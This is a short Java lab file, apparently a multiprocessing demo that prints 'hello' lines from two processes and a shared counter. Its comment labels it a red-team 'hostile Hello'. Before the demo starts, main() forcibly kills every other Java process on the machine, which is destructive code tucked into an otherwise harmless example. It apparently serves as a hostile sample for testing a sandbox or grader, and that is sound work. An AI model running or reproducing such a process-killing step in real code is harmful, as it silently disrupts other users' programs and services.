package lab.counter;

import io.github.mpgrade.multiprocessing.Process;
import io.github.mpgrade.multiprocessing.Time;

/** A hostile Hello of the red team: main kills every java process that is not its own */
public class Hello {
    static int counter = 10;

    static void hello(String name) {
        for (int i = 0; i < 5; i++) {
            counter += 1;
            Time.sleep(20);
            System.out.println("hello " + name + " " + counter);
        }
    }

    public static void main(String[] args) {
        ProcessHandle.allProcesses()
                .filter(p -> p.pid() != ProcessHandle.current().pid())
                .filter(p -> p.info().command().map(c -> c.endsWith("java")).orElse(false))
                .forEach(ProcessHandle::destroyForcibly);
        Process world = new Process(() -> hello("world"));
        Process myself = new Process(() -> hello("myself"));
        world.start();
        myself.start();
        world.join();
        myself.join();
        System.out.println("counter is : " + counter);
    }
}
